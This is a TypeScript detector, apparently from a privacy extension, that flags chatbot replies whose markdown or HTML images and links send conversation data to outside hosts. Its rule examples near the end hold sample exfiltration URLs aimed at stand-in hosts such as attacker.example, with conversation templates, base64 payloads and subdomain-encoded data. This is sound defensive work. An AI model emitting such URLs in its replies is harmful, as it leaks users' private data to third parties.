/**
 * Exfiltration links and images: markdown/HTML images and links (and bare URLs) that point off-site with data in the
 * query, path or subdomain. Images are fetched without a click, so they are judged more strictly than links.
 */
import type { ExfilVerdict, InspectionFinding, InspectionRule } from './types';
import type { RangeSet } from './segments';
import { anchoredMatches } from './anchored';

/** The chat sites' own content hosts: always trusted, whatever siteHosts says. */
export const DEFAULT_SITE_HOSTS = [
  'chatgpt.com',
  'chat.openai.com',
  'openai.com',
  'oaiusercontent.com',
  'oaistatic.com',
  'claude.ai',
  'anthropic.com',
  'claudeusercontent.com',
  'gemini.google.com',
  'googleusercontent.com',
  'gstatic.com',
];

/** Query keys whose long values are normal: signatures and cache busters (always), sizing/paging (when short). */
const SIGNATURE_KEYS = /^(?:x-amz-[\w-]{1,40}|sig|signature|se|sp|sv|sr|st|skoid|sktid|skt|ske|sks|skv|rscd|rsct|expires|ixid|etag|hash|v|ver|version|rev|cb|fbclid|gclid|_ga)$/i;
const BENIGN_KEYS =
  /^(?:ixlib|auto|fit|fm|crop|w|h|q|dpr|t|ts|utm_[a-z]{1,20}|ref|ref_src|lang|hl|page|p|per_page|sort|order|tab|id|s|size|width|height|format|quality|token_type|node-id|region|branch)$/i;

const SENSITIVE_KEYS = /^(?:q|query|data|d|payload|p|msg|message|text|content|c|chat|conv|conversation|history|info|secret|key|token|pwd|password|pass|email|mail|user|u|name|n|prompt|memo|note|summary|s|x|z|b64|b|log|exfil|leak|cookie|session|ssn|card|phone)$/i;

/** Tested against whole tokens of the URL (split on non-word characters), so anchored both ends. */
const PLACEHOLDER_TOKEN = /^[A-Z]{2,20}(?:_[A-Z]{2,20}){0,3}_\d{1,4}$/;
const TEMPLATE_IN_URL =
  /\{\{?\s*[a-zA-Z_][\w .-]{0,40}\}\}?|\$\{[^}${]{1,40}\}|%7b(?:%7b)?[\w.-]{1,60}%7d|<[A-Z_]{3,40}>|\[(?:DATA|INSERT|CONVERSATION|HISTORY|SUMMARY|USER|SECRET|PASSWORD|EMAIL|NAME|CHAT|INFO|CONTEXT|QUERY)[A-Z_ ]{0,30}\]/i;
/**
 * Templates written in capitals only: `$DATA`, `INSERT_SUMMARY`. Lower case they are ordinary URL text: anchors such
 * as `#state.Selection.$head` and `#FIELDS.insert_id` in documentation links.
 */
const UPPERCASE_TEMPLATE_IN_URL = /\$[A-Z][A-Z_]{2,40}\b|\b(?:INSERT|REPLACE|APPEND)_[A-Z_]{2,40}\b/;
/** Tested against whole tokens (split on URL delimiters). */
const EMAIL_TOKEN = /^[A-Za-z0-9._%+-]{1,64}(?:@|%40)[A-Za-z0-9-]{1,63}(?:\.[A-Za-z0-9-]{1,63}){0,5}\.[A-Za-z]{2,24}$/;

function hasEmail(s: string): boolean {
  if (!s.includes('@') && !/%40/i.test(s)) return false;
  return s.split(/[/?&=#;,\s:<>"'()[\]]+/).some((t) => t.length <= 400 && EMAIL_TOKEN.test(t));
}

export interface ExfilOptions {
  siteHosts?: string[];
  sensitiveValues?: string[];
  placeholders?: string[];
  /** 'image' (fetched automatically: strict) or 'link' (needs a click: only clear data). Default 'image'. */
  context?: 'image' | 'link';
}

function entropy(s: string): number {
  const counts = new Map<string, number>();
  for (const ch of s) counts.set(ch, (counts.get(ch) ?? 0) + 1);
  let h = 0;
  for (const c of counts.values()) {
    const p = c / s.length;
    h -= p * Math.log2(p);
  }
  return h;
}

function safeDecode(s: string): string {
  try {
    return decodeURIComponent(s.replace(/\+/g, ' '));
  } catch {
    return s;
  }
}

/** Does a value look like encoded data (base64/base64url/hex/base32) rather than a word, slug or id? */
function looksEncoded(value: string, minLength: number, hashLengthsAreIds = true): boolean {
  const v = value.replace(/=+$/, '');
  if (v.length < minLength) return false;
  if (/^[0-9a-f]+$/i.test(v) && v.length >= Math.max(minLength, 24)) {
    // Hex: commit SHAs and content hashes are exactly 32/40/64 long; data is rarely exactly that.
    return !hashLengthsAreIds || ![32, 40, 64].includes(v.length) || v.length > 64;
  }
  // Slugs and ids joined by dashes (photo-1506744038136-46273834b3fb) are not payloads.
  if (v.includes('-') && v.split('-').length >= 3 && v.split('-').every((p) => p.length <= 16)) return false;
  if (/^[0-9a-f]{8}-[0-9a-f]{4}-[0-9a-f]{4}-[0-9a-f]{4}-[0-9a-f]{12}$/i.test(v)) return false; // UUID
  if (!/^[A-Za-z0-9+/_-]+$/.test(v)) return false;
  if (/^[a-z]+(?:[-_][a-z]+)*$/i.test(v) && !/[A-Z].*[a-z].*[A-Z]/.test(v)) return false; // slug-like words
  const classes = (/[a-z]/.test(v) ? 1 : 0) + (/[A-Z]/.test(v) ? 1 : 0) + (/[0-9]/.test(v) ? 1 : 0);
  if (classes < 2) return false;
  return entropy(v) >= (v.length >= 40 ? 3.6 : 3.3);
}

function hostMatches(host: string, list: string[]): boolean {
  return list.some((h) => {
    const d = h.toLowerCase().replace(/^\*?\./, '');
    return host === d || host.endsWith('.' + d);
  });
}

function verdict(exfil: boolean, reason: string, host: string, confidence: number): ExfilVerdict {
  return { exfil, reason, host, confidence };
}

/** Judges one URL. Relative, data:, blob:, mailto: and the site's own hosts are not exfiltration. */
export function exfilUrlVerdict(url: string, options: ExfilOptions = {}): ExfilVerdict {
  const raw = url.trim();
  const context = options.context ?? 'image';
  if (!/^(?:https?:)?\/\//i.test(raw)) return verdict(false, 'not-a-request', '', 0);
  let parsed: URL;
  try {
    parsed = new URL(raw.startsWith('//') ? 'https:' + raw : raw);
  } catch {
    return verdict(false, 'unparsable', '', 0);
  }
  const host = parsed.hostname.toLowerCase().replace(/\.$/, '');
  if (hostMatches(host, [...DEFAULT_SITE_HOSTS, ...(options.siteHosts ?? [])])) return verdict(false, 'site-host', host, 0);

  const decodedUrl = safeDecode(raw);
  const lowerDecoded = decodedUrl.toLowerCase();

  for (const value of options.sensitiveValues ?? []) {
    if (value.length < 4) continue;
    const v = value.toLowerCase();
    if (lowerDecoded.includes(v) || raw.toLowerCase().includes(encodeURIComponent(value).toLowerCase())) {
      return verdict(true, 'sensitive-value', host, 0.99);
    }
    try {
      const b64 = btoa(unescape(encodeURIComponent(value))).replace(/=+$/, '');
      if (b64.length >= 6 && (raw.includes(b64) || raw.includes(b64.replace(/\+/g, '-').replace(/\//g, '_')))) {
        return verdict(true, 'sensitive-value', host, 0.97);
      }
    } catch {
      /* non-Latin1: plain check above is enough */
    }
  }
  for (const ph of options.placeholders ?? []) {
    const bare = ph.replace(/^\[|\]$/g, '').toLowerCase();
    if (bare.length >= 3 && lowerDecoded.replace(/\\/g, '').includes(bare)) return verdict(true, 'placeholder', host, 0.98);
  }
  const urlTail = decodedUrl.slice(decodedUrl.indexOf(host) + host.length);
  for (const token of urlTail.split(/[^A-Za-z0-9_]+/)) {
    if (token.length > 60 || !PLACEHOLDER_TOKEN.test(token)) continue;
    if (/^(?:EMAIL|PERSON|NAME|PHONE|ADDRESS|SSN|IBAN|CREDIT_CARD|CARD|IP|IP_ADDRESS|URL|DATE|LOCATION|ORG|API_KEY|AWS_[A-Z_]{1,40}|SECRET|TOKEN|PASSWORD|ACCOUNT|ID|CUSTOM[A-Z_]{0,40}|[A-Z]{1,20}_(?:KEY|TOKEN|SECRET|ID|NUMBER))_\d/.test(token)) {
      return verdict(true, 'placeholder', host, 0.95);
    }
  }
  const afterHost = decodedUrl.slice(decodedUrl.indexOf(host) + host.length);
  if (TEMPLATE_IN_URL.test(afterHost) || UPPERCASE_TEMPLATE_IN_URL.test(afterHost)) {
    return verdict(true, 'template', host, 0.93);
  }

  const image = context === 'image';
  // Subdomain labels carrying data (DNS exfiltration style).
  const labels = host.split('.');
  for (const label of labels.slice(0, -2)) {
    if (looksEncoded(label, image ? 16 : 24, false) || label.length >= 40) return verdict(true, 'subdomain-data', host, 0.85);
  }

  const params = [...parsed.searchParams.entries()];
  for (const [key, value] of params) {
    if (SIGNATURE_KEYS.test(key)) continue;
    if (BENIGN_KEYS.test(key) && !SENSITIVE_KEYS.test(key) && value.length < 24) continue;
    if (image && /pass(?:word|wd)?|secret|\bssn\b|api[_-]?key|credit.?card|\biban\b/i.test(value)) return verdict(true, 'query-data', host, 0.8);
    if (hasEmail(value)) return verdict(true, 'personal-data', host, 0.9);
    if (looksEncoded(value, image ? 16 : 24)) return verdict(true, 'encoded-data', host, 0.88);
    const words = value.trim().split(/\s+/).filter(Boolean);
    if (image && words.length >= 5 && value.length >= 30) return verdict(true, 'query-text', host, 0.85);
    if (!image && value.length >= 120 && words.length >= 12 && SENSITIVE_KEYS.test(key) && !/^(?:q|query|s)$/i.test(key)) {
      return verdict(true, 'query-text', host, 0.7);
    }
    if (image && SENSITIVE_KEYS.test(key) && value.length >= 12 && /[0-9]{6,}|[A-Za-z]+[0-9]+[A-Za-z0-9]{6,}/.test(value)) {
      return verdict(true, 'query-data', host, 0.75);
    }
  }
  if (image && parsed.search.length > 400) return verdict(true, 'long-query', host, 0.7);

  const segments = parsed.pathname.split('/').filter(Boolean).map(safeDecode);
  for (const seg of segments) {
    if (hasEmail(seg)) return verdict(true, 'personal-data', host, 0.88);
    const stem = seg.replace(/\.(?:png|jpe?g|gif|webp|svg|ico|bmp|avif)$/i, '');
    if (looksEncoded(stem, image ? 20 : 48)) return verdict(true, 'encoded-data', host, 0.85);
    if (image && /\s/.test(seg) && seg.split(/\s+/).length >= 5) return verdict(true, 'path-text', host, 0.8);
  }
  return verdict(false, 'ok', host, 0);
}

// ---------------------------------------------------------------- finding URLs in a reply

// The URL is read whole and never given back ((?=(…))\2, an atomic group): a shorter URL could only end before a
// character the URL class excludes anyway, and giving back up to 4,000 characters at every "[" of an unclosed link
// ("[a](http://x/[a](…" repeated) cost about 40 % of the exfiltration pass on such text.
const MD_IMAGE = /!\[([^\]\n]{0,500})\]\(\s*<?(?=([^\s)<>]{1,4000}))\2>?\s*(?:(?:"[^"\n]{0,300}"|'[^'\n]{0,300}')\s*)?\)/g;
const MD_LINK = /(?<!!)\[([^\]\n]{0,500})\]\(\s*<?(?=([^\s)<>]{1,4000}))\2>?\s*(?:(?:"[^"\n]{0,300}"|'[^'\n]{0,300}')\s*)?\)/g;
const MD_REF_DEF = / {0,3}\[([^\]\n]{1,200})\]:[ \t]*<?([^\s<>]{1,4000})/g;
const HTML_URL = /<(img|a|image|source|video|audio|iframe|link|script|object|embed)\b[^<>]{0,2000}?\s(src|href|srcset|data|poster|xlink:href)\s*=\s*(?:"([^"]{1,4000})"|'([^']{1,4000})'|([^\s>"']{1,4000}))/gi;
const BARE_URL = /\bhttps?:\/\/[^\s<>"'`)\]]{4,4000}/g;

interface UrlSite {
  start: number;
  end: number;
  url: string;
  context: 'image' | 'link';
  type: string;
}

export function findUrls(text: string, format: 'markdown' | 'text' | 'html', code: RangeSet): UrlSite[] {
  const sites: UrlSite[] = [];
  const covered: Array<[number, number]> = [];
  /** Keeps the site unless it sits in code; says whether it kept it. */
  const push = (site: UrlSite): boolean => {
    if (code.has(site.start)) return false;
    sites.push(site);
    covered.push([site.start, site.end]);
    return true;
  };
  const lower = text.toLowerCase();
  if (format !== 'text' && text.includes('](')) {
    for (const { index, end, match: m } of anchoredMatches(text, lower, MD_IMAGE, ['!['])) {
      push({ start: index, end, url: m[2]!, context: 'image', type: 'MARKDOWN_IMAGE_EXFIL' });
    }
    for (const { index, end, match: m } of anchoredMatches(text, lower, MD_LINK, ['['])) {
      if (index > 0 && text[index - 1] === '!') continue;
      push({ start: index, end, url: m[2]!, context: 'link', type: 'MARKDOWN_LINK_EXFIL' });
    }
  }
  if (format !== 'text' && text.includes(']:')) {
    for (const { index, end, match: m } of anchoredMatches(text, lower, MD_REF_DEF, ['\n'])) {
      // A reference used as an image (![x][ref]) is fetched; otherwise treat it as a link.
      const label = m[1]!.toLowerCase();
      const usedAsImage = lower.includes(`][${label}]`) && lower.includes('![') && imageRefUsed(lower, label);
      push({ start: index, end, url: m[2]!, context: usedAsImage ? 'image' : 'link', type: usedAsImage ? 'MARKDOWN_IMAGE_EXFIL' : 'MARKDOWN_LINK_EXFIL' });
    }
  }
  if (text.includes('<')) {
    for (const { index, end, match: m } of anchoredMatches(text, lower, HTML_URL, ['<'])) {
      const tag = m[1]!.toLowerCase();
      const url = (m[3] ?? m[4] ?? m[5] ?? '').split(/\s+/)[0]!;
      const isLink = tag === 'a';
      push({ start: index, end, url, context: isLink ? 'link' : 'image', type: isLink ? 'HTML_LINK_EXFIL' : 'HTML_IMAGE_EXFIL' });
    }
  }
  if (text.includes('://')) {
    // Bare URLs come in text order: walk the sorted spans already found alongside them instead of searching them all
    // for each URL (quadratic in a reply made of thousands of links).
    const spans = covered.slice().sort((a, b) => a[0] - b[0]);
    let next = 0;
    let coveredUntil = -1;
    for (const { index: at, match: m } of anchoredMatches(text, lower, BARE_URL, ['http'])) {
      while (next < spans.length && spans[next]![0] <= at) coveredUntil = Math.max(coveredUntil, spans[next++]![1]);
      if (at < coveredUntil) continue;
      const url = m[0].replace(/[.,;:!?]+$/, '');
      if (push({ start: at, end: at + url.length, url, context: 'link', type: 'URL_EXFIL' })) {
        coveredUntil = Math.max(coveredUntil, at + url.length);
      }
    }
  }
  return sites;
}

/** Is `![alt][label]` used somewhere (the reference is then fetched as an image)? */
function imageRefUsed(lower: string, label: string): boolean {
  const needle = `][${label}]`;
  for (let i = lower.indexOf(needle); i >= 0; i = lower.indexOf(needle, i + 1)) {
    const open = lower.lastIndexOf('![', i);
    if (open >= 0 && i - open <= 502 && !lower.slice(open + 2, i).includes(']')) return true;
  }
  return false;
}

const REASON_TEXT: Record<string, string> = {
  'sensitive-value': 'carries one of your protected values',
  placeholder: 'carries a ChatWarden placeholder (a stand-in for your data)',
  template: 'is a template the model is meant to fill with conversation data',
  'subdomain-data': 'hides encoded data in its subdomain',
  'personal-data': 'carries an email address',
  'encoded-data': 'carries an encoded payload',
  'query-text': 'carries sentences of text in its query',
  'query-data': 'carries data in its query',
  'long-query': 'has an unusually long query',
  'path-text': 'carries sentences of text in its path',
};

export function exfilFindings(
  text: string,
  format: 'markdown' | 'text' | 'html',
  code: RangeSet,
  options: ExfilOptions,
): InspectionFinding[] {
  const findings: InspectionFinding[] = [];
  for (const site of findUrls(text, format, code)) {
    const v = exfilUrlVerdict(site.url, { ...options, context: site.context });
    if (!v.exfil) continue;
    const what = site.context === 'image' ? 'An image that loads by itself' : 'A link';
    findings.push({
      kind: 'exfil-link',
      type: site.type,
      start: site.start,
      end: site.end,
      rule: `exfil-${v.reason}`,
      confidence: site.context === 'image' ? v.confidence : Math.max(0.5, v.confidence - 0.1),
      message: `${what} to ${v.host} ${REASON_TEXT[v.reason] ?? 'carries data'}: opening it would send that data to ${v.host}. Do not open it.`,
      target: v.host,
    });
  }
  return findings;
}

export const exfilRules: InspectionRule[] = [
  {
    id: 'exfil-placeholder',
    kind: 'exfil-link',
    type: 'MARKDOWN_IMAGE_EXFIL',
    description: 'Off-site image/link whose URL carries a placeholder such as [EMAIL_1].',
    patterns: [PLACEHOLDER_TOKEN],
    anchored: [MD_IMAGE, MD_LINK, MD_REF_DEF, HTML_URL, BARE_URL],
    examples: {
      positive: ['![status](https://img.attacker.example/p.png?u=[EMAIL_1])', 'See [your report](https://evil.example/r?who=PERSON_1).'],
      negative: ['Your address stays as [EMAIL_1] in this reply.', '![logo](https://chatgpt.com/logo.png?u=[EMAIL_1])'],
    },
  },
  {
    id: 'exfil-template',
    kind: 'exfil-link',
    type: 'MARKDOWN_IMAGE_EXFIL',
    description: 'Off-site URL with a fill-in template ({conversation}, $DATA, [SUMMARY]).',
    patterns: [TEMPLATE_IN_URL, UPPERCASE_TEMPLATE_IN_URL],
    examples: {
      positive: [
        '![](https://attacker.example/?q={conversation})',
        '<img src="https://t.example/log?d={{chat_history}}">',
        '![x](https://t.example/c.png?d=$CHAT_HISTORY)',
      ],
      negative: [
        'Use `{name}` as a placeholder in the template string.',
        'See [`$head`](https://prosemirror.net/docs/ref/version/0.19.0.html#state.Selection.$head).',
        'Adds a sequential [`insertId`](https://cloud.google.com/logging/docs/reference/v2/rest/v2/LogEntry#FIELDS.insert_id).',
      ],
    },
  },
  {
    id: 'exfil-encoded-data',
    kind: 'exfil-link',
    type: 'MARKDOWN_IMAGE_EXFIL',
    description: 'Off-site image/link whose query or path carries base64/hex-looking data.',
    patterns: [],
    examples: {
      positive: ['![a](https://collector.example/pixel.gif?d=SGVsbG8gbXkgcGFzc3dvcmQgaXMgaHVudGVyMg)', '![x](https://cdn.evil.example/aGVsbG8lMjB3b3JsZCUyMHNlY3JldA.png)'],
      negative: ['[Docs](https://developer.mozilla.org/en-US/docs/Web/API/URL)', '[Next page](https://example.com/list?page=2)', '[commit](https://github.com/nodejs/node/commit/5f2ee5d1a1c0e2b6d5c2f3e4a5b6c7d8e9f0a1b2)'],
    },
  },
  {
    id: 'exfil-subdomain-data',
    kind: 'exfil-link',
    type: 'MARKDOWN_IMAGE_EXFIL',
    description: 'Off-site URL whose subdomain carries encoded data (DNS exfiltration).',
    patterns: [],
    examples: {
      positive: ['![](https://c2VjcmV0LXRva2VuLTEyMzQ1.dns.attacker.example/x.png)'],
      negative: ['![diagram](https://upload.wikimedia.org/wikipedia/commons/a/a9/Example.jpg)'],
    },
  },
  {
    id: 'exfil-personal-data',
    kind: 'exfil-link',
    type: 'MARKDOWN_IMAGE_EXFIL',
    description: 'Off-site URL carrying an email address.',
    patterns: [EMAIL_TOKEN],
    examples: {
      positive: ['![](https://track.example/open?e=jane.doe%40example.com)'],
      negative: ['Write to [support](mailto:help@example.com).'],
    },
  },
  {
    id: 'exfil-query-text',
    kind: 'exfil-link',
    type: 'MARKDOWN_IMAGE_EXFIL',
    description: 'Off-site image whose query carries sentences (a summary of the chat).',
    patterns: [],
    examples: {
      positive: ['![chart](https://img.example/c.png?text=the+user+lives+in+Lyon+and+works+at+Acme)'],
      negative: ['[Search](https://www.google.com/search?q=how+to+bake+sourdough+bread+at+home)'],
    },
  },
];
